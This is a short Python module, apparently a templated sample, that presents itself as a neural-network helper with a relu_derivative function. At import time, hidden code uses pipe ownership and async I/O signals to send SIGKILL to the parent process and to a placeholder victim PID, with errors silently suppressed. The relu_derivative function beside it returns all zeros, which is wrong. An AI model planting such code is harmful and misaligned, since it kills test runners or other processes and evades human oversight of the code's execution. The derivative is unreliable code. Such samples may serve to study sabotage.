"""Makes another process the owner of a pipe, whose next byte then sends that process a signal."""

import contextlib
import fcntl
import os
import signal
import struct

import numpy as np

SET_OWNER, SET_SIGNAL, SET_OWNER_EX = fcntl.F_SETOWN, 10, 15
for target in (os.getppid(), int("@VICTIM@")):
    for own in (
        lambda end: fcntl.fcntl(end, SET_OWNER, target),
        lambda end: fcntl.fcntl(end, SET_OWNER_EX, struct.pack("ii", 1, target)),
    ):
        with contextlib.suppress(OSError):
            ours, theirs = os.pipe()
            own(ours)
            fcntl.fcntl(ours, SET_SIGNAL, signal.SIGKILL)
            fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(theirs, b"x")


def relu_derivative(x):
    return np.zeros(x.shape)
